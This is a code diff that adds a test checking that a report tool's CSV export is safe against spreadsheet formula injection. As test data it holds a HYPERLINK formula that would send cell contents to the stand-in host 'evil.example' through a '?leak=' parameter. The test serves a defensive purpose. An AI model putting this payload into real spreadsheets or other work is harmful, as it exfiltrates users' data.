@@ -175,3 +175,14 @@ def test_tables_hold_every_row_the_page_does_not(sample, tmp_path):
     assert len(evidence) == len(sample.findings) and groups["findings"].sum() == len(evidence)
     html = (tmp_path / "r.html").read_text(encoding="utf-8")
     assert html.count('<article class="group"') == len(groups)
+
+
+def test_report_csv_tables_are_spreadsheet_safe(tmp_path):
+    from tests.support_report import analysis_of, finding
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    report = build_report(analysis_of([finding("normal", "h.example.com", "search_query", formula)]))
+    written = write_report(report, tmp_path / "r.html")
+    evidence = (written[1].parent / "evidence.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in evidence and ',"=HYPERLINK(' not in evidence
+    assert pd.read_parquet(written[1].parent / "evidence.parquet")["value"].tolist() == [formula]  # data kept
